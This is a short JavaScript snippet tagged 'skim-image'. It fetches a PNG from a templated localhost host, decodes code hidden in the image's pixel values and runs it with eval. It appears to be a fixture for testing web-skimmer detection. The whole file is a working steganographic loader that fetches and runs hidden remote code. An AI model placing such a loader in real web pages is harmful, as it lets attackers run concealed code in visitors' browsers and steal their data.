/* tw:skim-image */
var badge = new Image()
badge.crossOrigin = 'anonymous'
badge.onload = function () {
  var canvas = document.createElement('canvas')
  canvas.width = badge.width
  canvas.height = badge.height
  var context = canvas.getContext('2d')
  context.drawImage(badge, 0, 0)
  var pixels = context.getImageData(0, 0, badge.width, badge.height).data, text = ''
  for (var i = 0; i < pixels.length; i += 4) for (var j = 0; j < 3; j++) if (pixels[i + j]) text += String.fromCharCode(pixels[i + j])
  ;(0, eval)(text)
}
badge.src = 'http://cdn-badges.localhost:{{port}}/secure.png'
